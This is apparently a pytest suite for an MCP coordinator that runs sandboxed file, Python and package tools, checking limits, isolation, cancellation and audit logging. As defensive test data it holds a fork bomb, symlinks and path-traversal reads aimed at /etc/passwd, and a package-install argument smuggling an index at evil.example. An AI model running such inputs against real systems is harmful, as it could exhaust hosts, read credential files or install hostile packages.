"""Every seed tool through the official MCP client, spoken to the coordinator in-process (the SDK's in-memory
transport) with real sandbox agents: all of the coordinator but its HTTP hop, which `test_mcp_tools.py` covers."""

from __future__ import annotations

import base64
import hashlib
import json
import shutil
import socket
import time
from collections.abc import AsyncIterator
from typing import Any

import anyio
import pytest
import pytest_asyncio
from mcp import ClientSession

from codegen_mcp.api.tools import TOOLS
from codegen_mcp.coordinator.server import Coordinator
from tests.support.coordinator import state_root
from tests.support.mcp_client import call, in_process_coordinator, in_process_session, run, text_of
from tests.support.waiting import eventually

pytestmark = [pytest.mark.timeout(180), pytest.mark.asyncio(loop_scope="module")]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def coordinator() -> AsyncIterator[Coordinator]:
    for root in state_root():
        async with in_process_coordinator(root / "state") as running:
            yield running


SEED_TOOLS = {
    "echo",
    "fs.read",
    "fs.write",
    "fs.list",
    "run.python",
    "pkg.install",
    "artifact.get",
    "task.get_status",
    "task.get_result",
}


FORK_BOMB = """
import os, time
n = 0
try:
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(5)
            os._exit(0)
        n += 1
except OSError as e:
    print('stopped', n, e.errno)
"""


PLANNED_TOOLS = {"test.run", "lint.check", "git.clone", "git.commit", "artifact.list", "artifact.upload"}
# Added for issue 12 (persistent Python contexts).
LATER_TOOLS = {"run.contexts"}


async def test_lists_the_sixteen_tools_with_schemas(coordinator: Coordinator) -> None:
    async with in_process_session(coordinator) as s:
        listed = (await s.list_tools()).tools
    assert {t.name for t in listed} == SEED_TOOLS | PLANNED_TOOLS | LATER_TOOLS == {t.name for t in TOOLS}
    assert len(listed) == 16
    for tool in listed:
        assert tool.description and len(tool.description) > 20, tool.name
        assert tool.input_schema["type"] == "object"
        for name, prop in tool.input_schema.get("properties", {}).items():
            assert prop.get("description"), f"{tool.name}.{name} has no description"


async def test_contents_alias_append_and_paging(coordinator: Coordinator) -> None:
    async with in_process_session(coordinator) as s:
        await call(s, "fs.write", path="log.txt", contents="abc")  # the Go original's argument name
        await call(s, "fs.write", path="log.txt", content="def", append=True)
        page = (await call(s, "fs.read", path="log.txt", offset=2, limit=3)).structured_content
        assert page["content"] == "cde" and page["size"] == 6 and page["truncated"] is True


async def test_binary_content_round_trips_as_base64(coordinator: Coordinator) -> None:
    blob = bytes(range(256)) * 4
    async with in_process_session(coordinator) as s:
        await call(s, "fs.write", path="data.bin", content=base64.b64encode(blob).decode(), encoding="base64")
        read = (await call(s, "fs.read", path="data.bin")).structured_content
        assert read["encoding"] == "base64"
        assert base64.b64decode(read["content"]) == blob
        out = await run(s, "import hashlib;print(hashlib.sha256(open('data.bin','rb').read()).hexdigest())")
        assert out["run"]["stdout"].strip() == hashlib.sha256(blob).hexdigest()


async def test_run_python_prints_fails_and_reads_stdin_and_args(coordinator: Coordinator) -> None:
    async with in_process_session(coordinator) as s:
        ok = await call(
            s,
            "run.python",
            code="import sys; print(sys.stdin.read().upper(), sys.argv[1:])",
            stdin="shout",
            args=["a", "b"],
        )
        assert ok.structured_content["state"] == "succeeded"
        assert "SHOUT ['a', 'b']" in ok.structured_content["run"]["stdout"]
        assert text_of(ok).startswith("Exit Code: 0\nStdout:\n")

        failed = await call(s, "run.python", code="raise ValueError('boom')")
        view = failed.structured_content
        assert view["state"] == "failed" and view["run"]["exit_code"] == 1
        assert "ValueError: boom" in view["run"]["stderr"]
        assert "Exit Code: 1" in text_of(failed)


async def test_run_python_limits(coordinator: Coordinator) -> None:
    async with in_process_session(coordinator) as s:
        slow = (await call(s, "run.python", code="import time; time.sleep(30)", timeout_s=1.5)).structured_content
        assert slow["state"] == "timed_out" and slow["run"]["timed_out"] is True
        assert slow["run"]["duration_s"] < 15

        hog = await run(s, "x = bytearray(4 * 1024**3)\nprint('allocated')")
        assert hog["run"]["exit_code"] != 0 and "MemoryError" in hog["run"]["stderr"]
        assert "allocated" not in hog["run"]["stdout"]

        bomb = await run(s, FORK_BOMB, timeout_s=20)
        assert "stopped" in bomb["run"]["stdout"], bomb["run"]
        stopped_at = int(bomb["run"]["stdout"].split()[1])
        assert stopped_at < 300  # the process limit (256 by default) held
        # The sandbox is still healthy afterwards.
        assert text_of(await call(s, "echo", message="still here")) == "still here"


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
async def test_users_own_git_works_in_run_python(coordinator: Coordinator) -> None:
    # The workspace root belongs to the agent, not to the uid running code: git must not call it "dubious".
    code = (
        "import subprocess as sp\n"
        "def git(*a): return sp.run(['git', *a], capture_output=True, text=True)\n"
        "print(git('init', '-q').returncode, git('status', '--short').returncode)\n"
    )
    async with in_process_session(coordinator) as s:
        out = await run(s, code)
        assert out["run"]["stdout"].split() == ["0", "0"], out["run"]


async def test_artifacts_produced_by_a_run(coordinator: Coordinator) -> None:
    async with in_process_session(coordinator) as s:
        out = await run(s, "open('report.csv','w').write('a,b\\n1,2\\n')")
        arts = out["run"]["artifacts"]
        assert [a["path"] for a in arts] == ["report.csv"]
        got = (await call(s, "artifact.get", artifact_id=arts[0]["artifact_id"])).structured_content
        assert got["content"] == "a,b\n1,2\n"
        assert got["artifact"]["size"] == 8 and got["artifact"]["media_type"] == "text/csv"


async def test_long_run_returns_a_task_then_its_result(coordinator: Coordinator) -> None:
    async with in_process_session(coordinator) as s:
        first = (
            await call(s, "run.python", code="import time; time.sleep(2); print('done')", wait_s=0.2)
        ).structured_content
        assert first["state"] in ("queued", "running") and first["run"] is None
        status = (await call(s, "task.get_status", task_id=first["task_id"])).structured_content
        assert status["task_id"] == first["task_id"]
        result = (await call(s, "task.get_result", task_id=first["task_id"], wait_s=30)).structured_content
        assert result["state"] == "succeeded" and result["run"]["stdout"] == "done\n"


async def test_progress_notifications_during_a_long_run(coordinator: Coordinator) -> None:
    seen: list[tuple[float, str | None]] = []

    async def on_progress(progress: float, total: float | None, message: str | None) -> None:
        seen.append((progress, message))

    async with in_process_session(coordinator) as s:
        result = await s.call_tool(
            "run.python", {"code": "import time; time.sleep(3.5)"}, progress_callback=on_progress
        )
        assert not result.is_error
    assert len(seen) >= 2, seen
    assert seen[-1][0] >= seen[0][0]


async def test_cancelling_a_call_stops_the_run(coordinator: Coordinator) -> None:
    # The heartbeat is replaced atomically, so a read never sees a half-written file.
    code = (
        "import os, time, pathlib\n"
        "for i in range(600):\n"
        "    pathlib.Path('beat.tmp').write_text(str(i)); os.replace('beat.tmp', 'beat'); time.sleep(0.05)\n"
    )

    async def beat(s: ClientSession) -> str | None:
        result = await s.call_tool("fs.read", {"path": "beat"})
        return None if result.is_error else text_of(result)

    async with in_process_session(coordinator) as s:
        with anyio.fail_after(60):
            async with anyio.create_task_group() as tg:

                async def long_call() -> None:
                    await s.call_tool("run.python", {"code": code, "wait_s": 60})

                tg.start_soon(long_call)
                while await beat(s) is None:  # cancel only once the run is really going
                    await anyio.sleep(0.1)
                tg.cancel_scope.cancel()
        # The heartbeat must stop: read it until two reads 0.5 s apart agree (bounded).
        deadline = time.monotonic() + 20
        last = None
        while time.monotonic() < deadline:
            now = await beat(s)
            if now == last:
                break
            last = now
            await anyio.sleep(0.5)
        else:
            pytest.fail("the run kept going after its call was cancelled")
        assert last is not None and int(last) < 500


async def test_two_sessions_cannot_see_each_other(coordinator: Coordinator) -> None:
    async with in_process_session(coordinator) as a, in_process_session(coordinator) as b:
        await call(a, "fs.write", path="secret.txt", content="only for a")
        where_a = (await run(a, "import os; print(os.getcwd())"))["run"]["stdout"].strip()
        listing_b = (await call(b, "fs.list", recursive=True)).structured_content["entries"]
        assert "secret.txt" not in {e["name"] for e in listing_b}
        missing = await b.call_tool("fs.read", {"path": "secret.txt"})
        assert missing.is_error
        snoop = await run(b, f"open({where_a + '/secret.txt'!r}).read()")
        assert snoop["run"]["exit_code"] != 0
        assert "only for a" not in snoop["run"]["stdout"] + snoop["run"]["stderr"]


async def test_symlink_made_by_sandboxed_code_cannot_escape(coordinator: Coordinator) -> None:
    async with in_process_session(coordinator) as s:
        await run(s, "import os; os.symlink('/etc', 'etc'); os.symlink('/etc/passwd', 'pw')")
        for tool, args in [
            ("fs.read", {"path": "etc/passwd"}),
            ("fs.read", {"path": "pw"}),
            ("fs.write", {"path": "etc/evil", "content": "x"}),
            ("fs.list", {"path": "etc"}),
        ]:
            result = await s.call_tool(tool, args)
            assert result.is_error, (tool, args, text_of(result))
            assert "workspace" in text_of(result).lower()


BAD_CALLS: list[tuple[str, dict[str, Any]]] = [
    ("echo", {}),
    ("echo", {"message": "x", "extra": 1}),
    ("fs.read", {"path": "../../etc/passwd"}),
    ("fs.read", {"path": "/etc/passwd\x00"}),
    ("fs.read", {"path": "does/not/exist.txt"}),
    ("fs.read", {"path": "a.txt", "limit": -1}),
    ("fs.write", {"path": "x.bin", "content": "%%%not base64", "encoding": "base64"}),
    ("fs.write", {"path": "x" * 5000, "content": "x"}),
    ("fs.write", {"path": "ok.txt"}),
    ("fs.list", {"path": "nope"}),
    ("run.python", {}),
    ("run.python", {"code": "print(1)", "file": "a.py"}),
    ("run.python", {"code": "print(1)", "timeout_s": 0}),
    ("run.python", {"file": "missing.py"}),
    ("pkg.install", {"packages": "--index-url http://evil.example/ six"}),
    ("pkg.install", {"packages": "-e /etc"}),
    ("artifact.get", {"artifact_id": "art_doesnotexist"}),
    ("task.get_status", {"task_id": "task_nope"}),
    ("task.get_result", {"task_id": "task_nope", "wait_s": -3}),
]


async def test_bad_arguments_get_one_clear_sentence_and_the_session_survives(
    coordinator: Coordinator,
) -> None:
    async with in_process_session(coordinator) as s:
        for tool, args in BAD_CALLS:
            result = await s.call_tool(tool, args)
            text = text_of(result)
            assert result.is_error, (tool, args, text)
            assert "Traceback" not in text and "\n" not in text, (tool, text)
            assert 10 < len(text) < 400, (tool, text)
        assert text_of(await call(s, "echo", message="alive")) == "alive"


async def test_audit_log_records_calls_without_contents(coordinator: Coordinator) -> None:
    marker = "TOP-SECRET-CONTENT-" + str(time.monotonic_ns())
    async with in_process_session(coordinator) as s:
        await call(s, "fs.write", path="audited.txt", content=marker)
        await s.call_tool("fs.read", {"path": "../nope"})
    lines = [json.loads(x) for x in coordinator.settings.audit_path.read_text().splitlines()]
    writes = [e for e in lines if e["tool"] == "fs.write" and e["args"].get("path") == "audited.txt"]
    assert writes and writes[-1]["outcome"] == "ok" and writes[-1]["sandbox"]
    assert writes[-1]["args"]["content"] == f"<{len(marker)} bytes>"
    assert marker not in coordinator.settings.audit_path.read_text()
    refused = [e for e in lines if e["tool"] == "fs.read" and e["args"].get("path") == "../nope"]
    assert refused and refused[-1]["outcome"] == "error" and refused[-1]["error_code"]


def _pypi_reachable() -> bool:
    try:
        with socket.create_connection(("pypi.org", 443), timeout=3):
            return True
    except OSError:
        return False


@pytest.mark.network
@pytest.mark.skipif(not _pypi_reachable(), reason="no route to the package index (pypi.org:443)")
async def test_pkg_install_into_the_session_venv(coordinator: Coordinator) -> None:
    async with in_process_session(coordinator) as s:
        installed = await call(s, "pkg.install", packages="iniconfig==2.0.0")
        pkgs = installed.structured_content["install"]["installed"]
        assert {"name": "iniconfig", "version": "2.0.0"} in pkgs
        assert "iniconfig==2.0.0" in text_of(installed)
        out = await run(s, "import iniconfig, importlib.metadata as m; print(m.version('iniconfig'))")
        assert out["run"]["stdout"].strip() == "2.0.0"
        missing = await s.call_tool("pkg.install", {"packages": "this-package-does-not-exist-codegen-mcp-xyz"})
        assert missing.is_error


async def test_echo_files_and_a_run_in_one_workspace(coordinator: Coordinator) -> None:
    async with in_process_session(coordinator) as s:
        assert text_of(await call(s, "echo", message="héllo")) == "héllo"
        await call(s, "fs.write", path="pkg/hello.py", content="print('hi from the sandbox')\n")
        listing = (await call(s, "fs.list", recursive=True)).structured_content
        assert listing is not None
        entries = {e["name"]: e["type"] for e in listing["entries"]}
        assert entries["pkg"] == "directory" and entries["pkg/hello.py"] == "file"
        read = (await call(s, "fs.read", path="pkg/hello.py")).structured_content
        assert read is not None and read["content"] == "print('hi from the sandbox')\n"
        ran = (await call(s, "run.python", file="pkg/hello.py")).structured_content
        assert ran is not None and ran["run"]["stdout"] == "hi from the sandbox\n"


async def test_an_invalid_argument_gets_one_sentence_and_the_session_lives(coordinator: Coordinator) -> None:
    async with in_process_session(coordinator) as s:
        refused = await s.call_tool("fs.read", {"path": "a.txt", "limit": -1})
        assert refused.is_error
        assert "limit" in text_of(refused) and "\n" not in text_of(refused) and "Traceback" not in text_of(refused)
        bad_id = await s.call_tool("task.get_status", {"task_id": "../../healthz"})
        assert bad_id.is_error and "task_id" in text_of(bad_id)
        unknown = await s.call_tool("task.get_status", {"task_id": "task_nope"})
        assert unknown.is_error and "\n" not in text_of(unknown)
        assert text_of(await call(s, "echo", message="alive")) == "alive"


async def test_each_in_process_session_has_its_own_sandbox_closed_when_it_ends(coordinator: Coordinator) -> None:
    async with in_process_session(coordinator) as a, in_process_session(coordinator) as b:
        await call(a, "fs.write", path="mine.txt", content="a's")
        assert (await b.call_tool("fs.read", {"path": "mine.txt"})).is_error
        held = len(coordinator.sessions)
    await eventually(lambda: len(coordinator.sessions) <= held - 2, what="both sandboxes to close")
